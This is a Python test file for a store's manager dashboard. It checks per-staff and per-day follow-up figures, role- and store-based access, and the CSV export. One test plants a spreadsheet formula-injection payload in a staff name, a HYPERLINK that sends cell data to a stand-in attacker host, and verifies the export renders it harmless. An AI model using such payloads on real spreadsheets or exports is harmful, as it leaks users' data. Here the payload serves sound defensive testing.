"""The manager's dashboard (real server over HTTP, real SMTP server; SQLite and PostgreSQL):
the store's follow-ups due, done and overdue, messages sent, blocked, opened and clicked, the
sale credited, per staff member and per day, for managers of the store; the CSV export opens
in a spreadsheet without running anything a staff name smuggled in."""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import httpx
from sqlalchemy import Engine, update

from sync.protocol import new_id
from sync.server.db import write_session
from sync.server.dispatch import Dispatcher, SmtpEmail
from sync.server.models import Staff
from sync.server.runner import ServerThread
from tests.server.chain import SHIBUYA, YOKOHAMA, tid
from tests.server.conftest import Terminal, mutation, open_terminal
from tests.server.mail import Inbox
from tests.server.test_cart_links import _checkout, _link, _sent

JST = ZoneInfo("Asia/Tokyo")


def _figures(t: Terminal, since: date, until: date, **extra: str) -> httpx.Response:
    params = {"since": since.isoformat(), "until": until.isoformat(), **extra}
    return t.http.get("/v1/dashboard", params=params, headers=t.auth)


def _blocked(server: ServerThread, engine: Engine, port: int, associate: Terminal) -> None:
    """A message approved, then the customer withdraws marketing by email: blocked at send
    time."""
    manager = open_terminal(server.base_url, SHIBUYA, "M001")
    fid, customer = new_id(), tid("customer:2")
    due = (datetime.now(UTC) + timedelta(days=2)).date().isoformat()
    args = {"id": fid, "customer_id": customer, "due_date": due, "channel": "email"}
    assert associate.push(mutation("followup.create", args))[0]["status"] == "applied"
    draft = associate.http.post(f"/v1/followups/{fid}/messages", json={}, headers=associate.auth)
    assert manager.http.post(f"/v1/messages/{draft.json()['id']}/approve", headers=manager.auth)
    withdrawn = {
        "id": new_id(),
        "customer_id": customer,
        "purpose": "marketing",
        "channel": "email",
        "state": "withdrawn",
        "wording_version": "counter-2026-12",
    }
    assert associate.push(mutation("consent.record", withdrawn))[0]["status"] == "applied"
    smtp = SmtpEmail("127.0.0.1", port, "shop@example.jp", timeout_s=5)
    report = Dispatcher(engine, {"email": smtp}).run(now=datetime.now(UTC) + timedelta(days=3))
    assert report.blocked == 1


def test_the_dashboard_adds_up_the_loop_per_staff_member_and_day(
    server: ServerThread, engine: Engine, inbox: tuple[Inbox, int]
) -> None:
    box, port = inbox
    associate, _, _ = _sent(server, engine, port)
    with httpx.Client(timeout=20) as http:
        link = _link(box.messages[0])
        assert http.get(link).status_code == 200  # the customer opens the cart
        assert _checkout(http, link, secrets.token_hex(16)).status_code == 200
    _blocked(server, engine, port, associate)
    overdue = (datetime.now(JST) - timedelta(days=3)).date().isoformat()
    late = {"id": new_id(), "customer_id": tid("customer:0"), "due_date": overdue}
    assert (
        associate.push(mutation("followup.create", {**late, "channel": "email"}))[0]["status"]
        == "applied"
    )

    manager = open_terminal(server.base_url, SHIBUYA, "M001")
    today = datetime.now(JST).date()
    r = _figures(manager, today - timedelta(days=7), today + timedelta(days=7))
    assert r.status_code == 200, r.text
    found = r.json()
    totals = found["totals"]
    assert found["store_name"] == "渋谷店"
    assert (totals["sent"], totals["blocked"], totals["clicked"]) == (1, 1, 1)
    assert (totals["credited"], totals["revenue_jpy"]) == (1, 6800)
    assert totals["overdue"] == 1 and totals["done"] == 1 and totals["due"] == 3
    assert totals["conversion"] == 1.0
    [mine] = found["staff"]
    assert mine["name"] == "スタッフ A001" and mine["figures"] == totals
    assert len(found["days"]) == 15
    assert sum(d["revenue_jpy"] for d in found["days"]) == 6800
    assert sum(d["sent"] for d in found["days"]) == 1

    # A period before any of it: nothing.
    quiet = _figures(manager, today - timedelta(days=60), today - timedelta(days=30)).json()
    assert quiet["totals"]["sent"] == 0 and quiet["staff"] == []


def test_who_sees_which_dashboard(server: ServerThread) -> None:
    today = datetime.now(JST).date()
    week = (today - timedelta(days=7), today)
    associate = open_terminal(server.base_url, SHIBUYA, "A001", "M001")
    assert _figures(associate, *week).status_code == 403
    other = open_terminal(server.base_url, YOKOHAMA, "M002")
    assert _figures(other, *week).status_code == 200
    assert _figures(other, *week, store_id=SHIBUYA).status_code == 403  # not their store
    admin = open_terminal(server.base_url, SHIBUYA, "X900")
    assert _figures(admin, *week, store_id=YOKOHAMA).json()["store_name"] == "横浜店"
    assert _figures(admin, *week, store_id=new_id()).status_code == 404
    manager = open_terminal(server.base_url, SHIBUYA, "M001")
    assert _figures(manager, today, today - timedelta(days=1)).status_code == 422
    assert _figures(manager, today - timedelta(days=500), today).status_code == 422
    bad = manager.http.get(
        "/v1/dashboard", params={"since": "yesterday", "until": "x"}, headers=manager.auth
    )
    assert bad.status_code == 422


def test_the_csv_export_never_carries_a_formula(
    server: ServerThread, engine: Engine, inbox: tuple[Inbox, int]
) -> None:
    _, port = inbox
    _sent(server, engine, port)
    with write_session(engine) as session:
        session.execute(
            update(Staff)
            .where(Staff.code == "A001")  # type: ignore[arg-type]
            .values(name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
        )
    manager = open_terminal(server.base_url, SHIBUYA, "M001")
    today = datetime.now(JST).date()
    r = manager.http.get(
        "/v1/dashboard/export.csv",
        params={
            "since": (today - timedelta(days=7)).isoformat(),
            "until": (today + timedelta(days=7)).isoformat(),
        },
        headers=manager.auth,
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["staff", "due", "done"]
    assert rows[1][0].startswith("'=HYPERLINK")  # shown as text, never run
    assert rows[1][4] == "1"  # sent
    assert rows[-1][0] == "合計 / Total"
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@"))
